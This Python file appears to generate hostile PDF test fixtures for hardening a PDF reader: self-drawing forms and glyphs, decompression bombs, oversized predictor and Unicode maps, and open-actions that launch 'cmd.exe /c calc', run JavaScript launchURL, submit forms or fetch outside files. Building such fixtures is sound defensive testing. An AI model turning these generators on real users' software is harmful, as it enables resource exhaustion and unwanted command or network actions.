"""PDFs of which a little draws, unpacks to, or asks for very much."""

from __future__ import annotations

import base64
from collections.abc import Callable

from hostile.bait import Bait
from hostile.pdf_structure import LINES
from hostile.pdfs import FONT, cascade, from_objects, one_page, shown, stream


def forms(kind: str) -> bytes:
    """Return a PDF whose page draws forms that draw forms."""
    objects = one_page(LINES)
    links, depth = {
        "self": ({20: [20]}, 1),
        "mutual": ({20: [21, 20], 21: [20, 21]}, 2),
        "multiply": ({20 + n: [21 + n] * 10 for n in range(12)}, 12),
        "deep": ({20 + n: [21 + n] for n in range(300)}, 300),
    }[kind]
    for number, drawn in links.items():
        named = b" ".join(b"/X%d %d 0 R" % (other, other) for other in sorted(set(drawn)))
        objects[number] = stream(
            b" ".join(b"/X%d Do" % other for other in drawn),
            b"/Type /XObject /Subtype /Form /BBox [0 0 612 792] "
            b"/Resources << /XObject << %s >> >>" % named,
        )
    objects[20 + depth] = objects.get(20 + depth, stream(b"n", b"/Subtype /Form /BBox [0 0 9 9]"))
    objects[10] = objects[10].replace(b"/Font", b"/XObject << /X20 20 0 R >> /Font")
    objects[11] = stream(shown(LINES) + b" /X20 Do")
    return from_objects(objects)


def drawn_glyph() -> bytes:
    """Return a PDF with a letter that is drawn with itself."""
    objects = one_page(LINES)
    objects[4] = (
        b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 10 10] /FontMatrix [.1 0 0 .1 0 0] "
        b"/CharProcs << /a 5 0 R >> /Encoding << /Differences [97 /a] >> /FirstChar 97 "
        b"/LastChar 97 /Widths [10] /Resources << /Font << /G 4 0 R >> >> >>"
    )
    objects[5] = stream(b"10 0 d0 BT /G 1 Tf (aaaa) Tj ET")
    objects[10] = objects[10].replace(b"/F 3 0 R", b"/F 3 0 R /G 4 0 R")
    objects[11] = stream(shown(LINES) + b" BT /G 9 Tf 72 72 Td (aaa) Tj ET")
    return from_objects(objects)


def growing(kind: str) -> bytes:
    """Return a PDF of which a small part unpacks to, or asks for, very much."""
    printed = shown(LINES)
    objects = one_page(LINES)
    streams: dict[str, Callable[[], bytes]] = {
        "cascade": lambda: cascade(printed, 20),
        "bomb": lambda: cascade(printed + b" " * 60_000_000, 1),
        "bomb-cascade": lambda: cascade(cascade(bytes(60_000_000), 2), 2),
        "run-length": lambda: (
            stream(
                bytes([len(printed) - 1]) + printed + b"\x81 " * 300_000,
                b"/Filter /RunLengthDecode",
            )
            if len(printed) < 128
            else stream(_run_length(printed) + b"\x81 " * 300_000, b"/Filter /RunLengthDecode")
        ),
        "ascii85": lambda: _ascii85(printed, 12),
        "letters": lambda: cascade(printed + b" BT /F 1 Tf (" + b"ab " * 70_000 + b") Tj ET", 1),
        "states": lambda: stream(b"q " * 50_000 + printed),
        "arrays": lambda: stream(b"[" * 100_000 + b" " + printed),
        "lines": lambda: cascade(
            printed + b"".join(b" %d 9 m 9 %d l S" % (n % 600, n % 780) for n in range(300_000)), 1
        ),
    }
    if kind in streams:
        objects[11] = streams[kind]()
    elif kind == "map":
        objects[4] = stream(b"1 beginbfrange <00000000> <FFFFFFFF> <0041> endbfrange")
        objects[3] = FONT.replace(b">>", b"/ToUnicode 4 0 R >>")
    elif kind == "predictor":
        settings = b"/DecodeParms << /Predictor 12 /Columns 30000000 /Colors 9 >>"
        objects[5] = cascade(b"\2" * 10_000, 1).replace(b"/Filter", settings + b" /Filter")
        objects[10] = objects[10].replace(b"11 0 R", b"[11 0 R 5 0 R]")
    return from_objects(objects)


def _run_length(content: bytes) -> bytes:
    pieces = [content[at : at + 128] for at in range(0, len(content), 128)]
    return b"".join(bytes([len(piece) - 1]) + piece for piece in pieces)


def _ascii85(content: bytes, times: int) -> bytes:
    for _ in range(times):
        content = base64.a85encode(content) + b"~>"
    return stream(content, b"/Filter [" + b"/ASCII85Decode " * times + b"]")


def actions() -> list[tuple[str, Callable[[Bait], bytes]]]:
    """Return PDFs that would do something when they are opened."""

    def opening(action: str) -> Callable[[Bait], bytes]:
        def build(bait: Bait) -> bytes:
            told = action.replace("WEB", bait.web).replace("FILE", str(bait.path)).encode()
            entry = b"/OpenAction << /Type /Action %s >> /AA << /WC << %s >> >>" % (told, told)
            catalog = b"<< /Type /Catalog /Pages 2 0 R %s >>" % entry
            return from_objects(one_page(LINES, catalog=catalog))

        return build

    def outside(bait: Bait) -> bytes:
        """Return a PDF whose page is to be taken from another file."""
        entry = b"/F (%s) /FFilter null" % str(bait.path).encode()
        objects = one_page(LINES) | {5: stream(b"x", entry), 6: stream(b"x", entry)}
        objects[10] = objects[10].replace(b"11 0 R", b"[11 0 R 5 0 R]")
        return from_objects(objects)

    return [
        ("script", opening("/S /JavaScript /JS (app.launchURL('WEB', true);)")),
        ("launch", opening("/S /Launch /F (FILE) /Win << /F (cmd.exe) /P (/c calc) >>")),
        ("address", opening("/S /URI /URI (WEB)")),
        ("submit", opening("/S /SubmitForm /F << /FS /URL /F (WEB) >> /Fields []")),
        ("import", opening("/S /ImportData /F (FILE)")),
        ("remote", opening("/S /GoToR /F (FILE) /D [0 /Fit]")),
        ("stream-in-another-file", outside),
    ]
